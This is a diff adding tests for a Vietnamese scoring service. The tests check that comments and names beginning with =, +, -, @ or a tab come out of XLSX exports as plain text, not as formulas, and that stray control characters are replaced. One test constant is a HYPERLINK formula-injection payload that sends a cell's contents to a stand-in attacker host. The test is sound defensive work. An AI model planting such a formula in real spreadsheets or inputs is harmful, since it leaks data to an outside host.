@@ -9,10 +9,15 @@ from typing import Any
 
 from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
+from sqlalchemy import select
 
+from kit.app import runtime
+from kit.spreadsheets import REPLACEMENT
 from services.scoring.domain import exports
+from services.scoring.models import Entry, RegionCopy, Round, UnitCopy
 from services.scoring.tests.test_rankings import (
     HANOI,
+    NORTH,
     OFFICER,
     World,
     build,
@@ -20,6 +25,7 @@ from services.scoring.tests.test_rankings import (
 )
 from tests.support.stack import Stack
 from tests.support.tokens import unit_officer
+from tests.support.workbooks import assert_only_text
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
@@ -143,6 +149,101 @@ def test_sheet_workbook_for_the_unit_itself(stack: Stack) -> None:
     ws = book[exports.SCORESHEET]
     assert ws["A2"].value == "Đơn vị: Sở Tư pháp thành phố Hà Nội"
     assert ws.cell(row_of(ws, 2, "TỔNG ĐIỂM"), 7).value == 150
+
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+
+
+def store(world: World, *, comments: dict[str, str], **names: str) -> None:
+    """Write text straight into the tables, as an old release or a careless import left it:
+    comments of the worked example's entries by code; the round's, Hà Nội's and the north
+    region's names (``round_name``, ``unit_name``, ``region_name``)."""
+    with world.app.app_context(), runtime().db.transaction() as session:
+        sheet_id = world.sheets["stp-03"]
+        for entry in session.scalars(select(Entry).where(Entry.sheet_id == sheet_id)):
+            if entry.code in comments:
+                entry.comment = comments[entry.code]
+        if "round_name" in names:
+            session.get(Round, world.round_id).name = names["round_name"]  # type: ignore[union-attr]
+        if "unit_name" in names:
+            session.get(UnitCopy, "stp-01").name = names["unit_name"]  # type: ignore[union-attr]
+        if "region_name" in names:
+            region = session.scalars(select(RegionCopy).where(RegionCopy.region_id == NORTH)).one()
+            region.name = names["region_name"]
+
+
+def download(world: World, path: str) -> bytes:
+    response = world.client.get(path, headers=OFFICER)
+    assert response.status_code == 200, response.get_data(as_text=True)
+    load_workbook(io.BytesIO(response.data))  # a reader can open it
+    return response.data
+
+
+def test_text_a_user_wrote_is_never_a_formula_in_an_export(stack: Stack) -> None:
+    """A comment, a round name, a unit or region name beginning with =, +, -, @ or a tab is a
+    string cell in the workbook the Ministry opens: Excel shows it, it never runs it."""
+    world = build(stack)
+    comments = {
+        "A.I.1": LEAK,
+        "A.I.2": "+1+1",
+        "A.I.3": "-2+3",
+        "A.I.4": "@SUM(A1:A9)",
+        "A.I.5": "\t=1+1",
+        "A.I.6": "#N/A",
+    }
+    store(world, comments=comments, round_name="=1+1", unit_name="@SUM(1)", region_name="-1")
+    assert publish(world).status_code == 200
+
+    sheet = download(world, f"/sheets/{world.sheets['stp-03']}/export.xlsx")
+    cells = assert_only_text(sheet, *comments.values(), "=1+1 — năm 2026")
+    ws = load_workbook(io.BytesIO(sheet))[exports.SCORESHEET]
+    notes = ws.cell(row_of(ws, 1, "A.I.1"), 8)
+    assert notes.value == LEAK and notes.data_type == "s"
+    error_like = ws.cell(row_of(ws, 1, "A.I.6"), 8)
+    assert error_like.value.endswith("\n#N/A\nKhu vực: Thiếu minh chứng quý IV")
+    assert "'Phiếu chấm điểm'!A3" in cells
+
+    ranking = download(world, f"/rounds/{world.round_id}/rankings.xlsx")
+    assert_only_text(ranking, "=1+1 — năm 2026", "@SUM(1)", "-1")
+    book = load_workbook(io.BytesIO(ranking))
+    ws = book[exports.RANKING_SHEET]
+    first = row_of(ws, 1, 1)
+    assert values(ws, first)[1:3] == ["@SUM(1)", "-1"]
+    assert ws.cell(first, 2).data_type == ws.cell(first, 3).data_type == "s"
+    stats = book[exports.STATISTICS_SHEET]
+    assert stats.cell(row_of(stats, 1, "-1"), 1).data_type == "s"
+
+
+def test_stored_control_characters_never_break_an_export(stack: Stack) -> None:
+    """Text stored before input was checked may hold characters XML cannot carry (U+000B,
+    U+001F; U+0000 where the database keeps it): the exports still answer 200 and show U+FFFD
+    where they were."""
+    world = build(stack)
+    nul = "\x00" if stack.kind == "embedded" else ""  # PostgreSQL text never holds U+0000
+    store(
+        world,
+        comments={"A.I.1": f"dòng 1\x0bdòng 2{nul}\x1f"},
+        round_name="Đợt\x0b2026",
+        unit_name="Sở Tư pháp\x1f Hà Nội",
+    )
+    with world.app.app_context(), runtime().db.transaction() as session:  # JSON keeps U+0000
+        entry = session.scalars(
+            select(Entry).where(Entry.sheet_id == world.sheets["stp-03"], Entry.code == "A.I.2")
+        ).one()
+        entry.inputs = {**(entry.inputs or {}), "note": "ghi chú\x00cũ"}
+    assert publish(world).status_code == 200
+
+    sheet = download(world, f"/sheets/{world.sheets['stp-03']}/export.xlsx")
+    ws = load_workbook(io.BytesIO(sheet))[exports.SCORESHEET]
+    r = REPLACEMENT
+    assert ws.cell(row_of(ws, 1, "A.I.1"), 8).value == f"dòng 1{r}dòng 2{r if nul else ''}{r}"
+    assert ws.cell(row_of(ws, 1, "A.I.2"), 8).value.startswith(f"ghi chú{r}cũ")
+    assert ws["A3"].value == f"Đợt chấm điểm: Đợt{r}2026 — năm 2026"
+
+    ranking = load_workbook(io.BytesIO(download(world, f"/rounds/{world.round_id}/rankings.xlsx")))
+    ws = ranking[exports.RANKING_SHEET]
+    assert ws["A2"].value == f"Đợt{r}2026 — năm 2026"
+    assert f"Sở Tư pháp{r} Hà Nội" in [ws.cell(row, 2).value for row in range(1, ws.max_row + 1)]
 
 
 def test_inputs_text_for_every_method() -> None:
